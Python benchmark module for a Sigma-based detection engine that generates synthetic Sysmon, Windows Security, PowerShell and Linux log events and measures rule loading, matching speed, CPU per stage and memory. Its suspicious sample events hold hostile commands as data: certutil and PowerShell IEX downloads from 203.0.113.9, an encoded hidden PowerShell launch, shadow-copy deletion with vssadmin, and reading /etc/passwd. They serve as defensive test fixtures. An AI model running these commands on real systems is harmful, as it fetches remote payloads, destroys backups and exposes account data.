"""``tandem bench detect``: the Sigma engine end to end on generated events (decision 0034).

Generates realistic normalised events without ``_logsource`` (Windows: Sysmon process
creation, network connections and registry sets, Security 4624/4625/4688, PowerShell 4104;
Linux: sshd / sudo / cron syslog lines and process creation), about 1 % of them
suspicious, writes them as JSONL, and measures in one process:

- rule load: cold (every file parsed by pySigma, then compiled and cached) and cached (the
  pickle read back), and building the engine;
- matching end to end: read the file, parse each line with orjson, infer its log source,
  match — events per second of wall time, and CPU microseconds per event
  (``time.process_time``, which other load on the machine disturbs less);
- where the CPU time goes per event: the same file read again stage by stage (parse;
  parse and infer the log source; those and the candidate rules, i.e. the index and the
  Hyperscan prefilter; everything), each stage's share the difference to the previous;
- peak memory (``ru_maxrss``).

The events are generated before the clock starts; matching starts after the first event of
each log source has built its index (counted in ``warm-up``). Each index is rebuilt once,
after its log source's first 500 events, on the literals they held: inside the timed run,
as in the detection worker. A second timed pass (``steady``) sends as many new events (the
next seed) through the same engine: a running worker's cost per event, once that one-time
work is done.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import resource
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson

from tandem.detection.engine import Engine, compile_rules, infer_logsource, load_rules

_USERS = ["alice", "bob", "carol", "svc_backup", "SYSTEM", "dave"]
_HOSTS = [f"ws-{i:03d}.corp.example" for i in range(40)] + ["dc-01.corp.example"]
_BENIGN = [
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
        "--lang=en-US --field-trial-handle=1234",
    ),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    ("C:\\Windows\\System32\\notepad.exe", '"C:\\Windows\\System32\\notepad.exe" C:\\notes.txt'),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff"),
    (
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\q3.docx"',
    ),
    (
        "C:\\Windows\\System32\\SearchIndexer.exe",
        "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
    ),
]
_SUSPICIOUS = [
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
    ),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
    ),
]


def _windows(rng: random.Random, channel: str, event_id: int, data: dict[str, Any]) -> dict:
    return {
        "Event": {
            "System": {
                "Provider": {"Name": "Microsoft-Windows-Sysmon" if "Sysmon" in channel else ""},
                "EventID": event_id,
                "Channel": channel,
                "Computer": rng.choice(_HOSTS),
                "TimeCreated": {"SystemTime": "2030-01-01T10:00:00.000Z"},
            },
            "EventData": data,
        }
    }


_PARENTS = {
    "svchost.exe": "C:\\Windows\\System32\\services.exe",
    "searchindexer.exe": "C:\\Windows\\System32\\services.exe",
    "taskhostw.exe": "C:\\Windows\\System32\\svchost.exe",
    "conhost.exe": "C:\\Windows\\System32\\cmd.exe",
    "explorer.exe": "C:\\Windows\\System32\\userinit.exe",
}


def _parent(image: str) -> tuple[str, str]:
    """The usual parent of a process (explorer for what a user starts)."""
    parent = _PARENTS.get(image.rsplit("\\", 1)[-1].lower(), "C:\\Windows\\explorer.exe")
    return parent, parent


def _process(rng: random.Random) -> tuple[str, str]:
    return rng.choice(_SUSPICIOUS) if rng.random() < 0.01 else rng.choice(_BENIGN)


def generate_event(rng: random.Random) -> dict[str, Any]:
    kind = rng.choices(
        [
            "sysmon1",
            "sysmon3",
            "sysmon13",
            "4624",
            "4625",
            "4688",
            "4104",
            "sshd",
            "sudo",
            "cron",
            "linux_proc",
        ],
        weights=[25, 10, 10, 10, 4, 8, 6, 10, 5, 5, 7],
    )[0]
    sysmon = "Microsoft-Windows-Sysmon/Operational"
    user = rng.choice(_USERS)
    if kind == "sysmon1":
        image, command = _process(rng)
        parent, parent_command = _parent(image)
        return _windows(
            rng,
            sysmon,
            1,
            {
                "UtcTime": "2030-01-01 10:00:00.000",
                "ProcessGuid": "{a1b2c3d4-0000-0000-0000-000000000001}",
                "ProcessId": rng.randint(100, 60000),
                "Image": image,
                "CommandLine": command,
                "OriginalFileName": image.rsplit("\\", 1)[-1],
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": f"CORP\\{user}",
                "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
                "Hashes": "SHA256=4F8C2D1A9E7B6C5D3E2F1A0B9C8D7E6F5A4B3C2D1E0F9A8B7C6D5E4F3A2B1C0D",
                "ParentImage": parent,
                "ParentCommandLine": parent_command,
            },
        )
    if kind == "sysmon3":
        image, _ = rng.choice(_BENIGN)
        return _windows(
            rng,
            sysmon,
            3,
            {
                "Image": image,
                "User": f"CORP\\{user}",
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIp": f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}",
                "SourcePort": rng.randint(49152, 65535),
                "DestinationIp": rng.choice(["142.250.74.78", "13.107.42.14", "10.0.0.5"]),
                "DestinationPort": rng.choice([443, 80, 445, 53]),
                "DestinationHostname": "example.com",
            },
        )
    if kind == "sysmon13":
        image, _ = rng.choice(_BENIGN)
        key = rng.choice(
            [
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\x",
                "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\x",
            ]
        )
        return _windows(
            rng,
            sysmon,
            13,
            {
                "EventType": "SetValue",
                "Image": image,
                "TargetObject": key,
                "Details": "DWORD (0x00000001)",
            },
        )
    if kind in ("4624", "4625"):
        return _windows(
            rng,
            "Security",
            int(kind),
            {
                "TargetUserName": user,
                "TargetDomainName": "CORP",
                "LogonType": rng.choice([2, 3, 10]),
                "IpAddress": f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}",
                "WorkstationName": "WS-001",
                "AuthenticationPackageName": "Negotiate",
                "LogonProcessName": "User32",
                "Status": "0xc000006d" if kind == "4625" else "0x0",
            },
        )
    if kind == "4688":
        image, command = _process(rng)
        return _windows(
            rng,
            "Security",
            4688,
            {
                "SubjectUserName": user,
                "NewProcessName": image,
                "CommandLine": command,
                "ParentProcessName": _parent(image)[0],
                "TokenElevationType": "%%1936",
            },
        )
    if kind == "4104":
        script = rng.choice(
            [
                "Get-ChildItem -Path C:\\Users -Recurse | Select-Object Name",
                "Import-Module ActiveDirectory; Get-ADUser -Filter *",
                "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://203.0.113.9/p.ps1')"
                if rng.random() < 0.05
                else "Write-Host 'backup done'",
            ]
        )
        return _windows(
            rng,
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": script,
                "ScriptBlockId": "5c1e-0000",
                "Path": "",
            },
        )
    host = f"srv-{rng.randint(1, 20):02d}"
    base = {"@timestamp": "2030-01-01T10:00:00Z", "host": {"hostname": host}}
    if kind == "sshd":
        ip = f"198.51.100.{rng.randint(1, 254)}"
        message = rng.choice(
            [
                f"Accepted publickey for {user} from {ip} port 52311 ssh2",
                f"Failed password for invalid user admin from {ip} port 40022 ssh2",
                f"Disconnected from user {user} {ip} port 52311",
            ]
        )
        return {
            **base,
            "message": message,
            "process": {"name": "sshd", "pid": rng.randint(100, 9999)},
            "log": {"syslog": {"appname": "sshd", "facility": {"name": "auth"}}},
            "source": {"ip": ip},
            "user": {"name": user},
        }
    if kind == "sudo":
        message = (
            f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
            "COMMAND=/usr/bin/systemctl restart nginx"
        )
        return {
            **base,
            "message": message,
            "process": {"name": "sudo"},
            "log": {"syslog": {"appname": "sudo", "facility": {"name": "authpriv"}}},
            "user": {"name": user},
        }
    if kind == "cron":
        return {
            **base,
            "message": "(root) CMD (run-parts /etc/cron.hourly)",
            "process": {"name": "CRON"},
            "log": {"syslog": {"appname": "CRON", "facility": {"name": "cron"}}},
        }
    executable, command = rng.choice(
        [
            ("/usr/bin/ls", "ls -la /var/log"),
            ("/usr/bin/python3", "python3 /opt/app/manage.py runserver"),
            ("/usr/bin/git", "git pull --ff-only"),
            ("/usr/bin/curl", "curl -s https://example.com/health"),
            (
                "/usr/bin/bash",
                "bash -c 'cat /etc/passwd'" if rng.random() < 0.05 else "bash /opt/backup.sh",
            ),
        ]
    )
    return {
        **base,
        "event": {"category": "process", "type": "start"},
        "process": {
            "executable": executable,
            "command_line": command,
            "name": executable.rsplit("/", 1)[-1],
            "pid": rng.randint(100, 60000),
            "parent": {"executable": "/usr/bin/bash"},
        },
        "user": {"name": user},
    }


def write_events(path: Path, count: int, seed: int) -> None:
    rng = random.Random(seed)
    with path.open("wb") as out:
        for _ in range(count):
            out.write(orjson.dumps(generate_event(rng)) + b"\n")


def _maxrss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kB on Linux


def run(*, rules: Path, events: int, seed: int = 1, cold: bool = True) -> dict[str, Any]:
    with tempfile.TemporaryDirectory(prefix="tandem-bench-detect-") as scratch:
        folder = Path(scratch)
        cache = folder / "cache"
        file = folder / "events.jsonl"
        write_events(file, events, seed)
        size = file.stat().st_size
        result: dict[str, Any] = {"rules_path": str(rules), "events": events, "seed": seed}
        if cold:
            started = time.perf_counter()
            ruleset = load_rules(rules, cache_dir=cache)
            result["load_cold_seconds"] = round(time.perf_counter() - started, 3)
        started = time.perf_counter()
        ruleset = load_rules(rules, cache_dir=cache)
        result["load_cached_seconds"] = round(time.perf_counter() - started, 3)
        result["from_cache"] = ruleset.from_cache
        started = time.perf_counter()
        engine = compile_rules(ruleset)
        result["compile_seconds"] = round(time.perf_counter() - started, 3)
        result["rules_loaded"] = len(ruleset.loaded)
        result["rules_refused"] = dict(Counter(r.kind for r in ruleset.refused))

        # Warm-up: one event of each log source builds that source's index.
        started = time.perf_counter()
        with file.open("rb") as lines:
            seen = set()
            for line in lines:
                event = orjson.loads(line)
                source = infer_logsource(event)
                if source not in seen:
                    seen.add(source)
                    engine.match(event, source)
        result["warm_up_seconds"] = round(time.perf_counter() - started, 3)
        result["log_sources"] = len(seen)

        alerts = 0
        wall, cpu = time.perf_counter(), time.process_time()
        with file.open("rb") as lines:
            for line in lines:
                event = orjson.loads(line)
                alerts += len(engine.match(event, infer_logsource(event)))
        wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
        result["steady"] = _steady(engine, folder / "later.jsonl", events, seed + 1)
        result["cpu_us_by_stage"] = _stages(engine, file, events)
        result.update(
            {
                "alerts": alerts,
                "bytes": size,
                "match_seconds": round(wall, 3),
                "events_per_second": round(events / wall),
                "cpu_seconds": round(cpu, 3),
                "cpu_us_per_event": round(cpu / events * 1e6, 1),
                "events_per_cpu_second": round(events / cpu) if cpu else None,
                "peak_rss_mb": round(_maxrss_mb(), 1),
                "pid": os.getpid(),
            }
        )
        return result


def _steady(engine: Engine, file: Path, events: int, seed: int) -> dict[str, Any]:
    """The same number of new events (the next seed) through the same engine: what a
    running worker pays per event once the one-time work of its first events is done (each
    log source's index rebuilt on its first 500 events' literals, each candidate rule's
    function compiled on its first use; the first pass pays those, ~1 s in all)."""
    write_events(file, events, seed)
    alerts = 0
    cpu = time.process_time()
    with file.open("rb") as lines:
        for line in lines:
            event = orjson.loads(line)
            alerts += len(engine.match(event, infer_logsource(event)))
    cpu = time.process_time() - cpu
    return {
        "events": events,
        "seed": seed,
        "alerts": alerts,
        "cpu_us_per_event": round(cpu / events * 1e6, 1),
        "events_per_cpu_second": round(events / cpu) if cpu else None,
    }


def _stages(engine: Engine, file: Path, events: int) -> dict[str, float]:
    """CPU microseconds per event of each stage: passes over the file that stop after
    parsing, after the log source, after choosing the candidates, and the full match."""

    def cpu_of(step: Callable[[bytes], object]) -> float:
        started = time.process_time()
        with file.open("rb") as lines:
            for line in lines:
                step(line)
        return time.process_time() - started

    def parse(line: bytes) -> object:
        return orjson.loads(line)

    def logsource(line: bytes) -> object:
        return infer_logsource(orjson.loads(line))

    def candidates(line: bytes) -> object:
        event = orjson.loads(line)
        return engine.candidates(event, infer_logsource(event))

    def match(line: bytes) -> object:
        event = orjson.loads(line)
        return engine.match(event, infer_logsource(event))

    totals = [cpu_of(parse), cpu_of(logsource), cpu_of(candidates), cpu_of(match)]
    names = ["read_and_parse", "log_source", "index_and_prefilter", "evaluate_candidates"]
    shares = [totals[0]] + [max(b - a, 0.0) for a, b in itertools.pairwise(totals)]
    return {name: round(share / events * 1e6, 1) for name, share in zip(names, shares, strict=True)}


def report(result: dict[str, Any], *, as_json: bool) -> str:
    if as_json:
        return json.dumps(result, indent=2)
    lines = [
        f"tandem bench detect: {result['rules_loaded']} rules loaded "
        f"(refused: {result['rules_refused'] or 'none'}), {result['events']:,} events",
    ]
    rows: list[tuple[str, str]] = []
    if "load_cold_seconds" in result:
        rows.append(
            ("rule load, cold (parse, compile, cache)", f"{result['load_cold_seconds']:.2f} s")
        )
    rows += [
        ("rule load, cached", f"{result['load_cached_seconds']:.2f} s"),
        ("engine build (predicates)", f"{result['compile_seconds']:.2f} s"),
        (
            f"index warm-up ({result['log_sources']} log sources)",
            f"{result['warm_up_seconds']:.2f} s",
        ),
        (
            "matching end to end (read, parse, infer, match)",
            f"{result['events_per_second']:,} events/s",
        ),
        (
            "CPU per event",
            f"{result['cpu_us_per_event']:.1f} us ({result['events_per_cpu_second']:,}/CPU s)",
        ),
        (
            f"CPU per event, the next {result['steady']['events']:,} events (steady)",
            f"{result['steady']['cpu_us_per_event']:.1f} us "
            f"({result['steady']['events_per_cpu_second']:,}/CPU s)",
        ),
        *(
            (f"  of which {name.replace('_', ' ')}", f"{us:.1f} us")
            for name, us in result["cpu_us_by_stage"].items()
        ),
        ("alerts", f"{result['alerts']:,}"),
        ("peak memory (maxrss)", f"{result['peak_rss_mb']:.1f} MB"),
    ]
    lines += [f"  {name:<50} {value}" for name, value in rows]
    return "\n".join(lines)
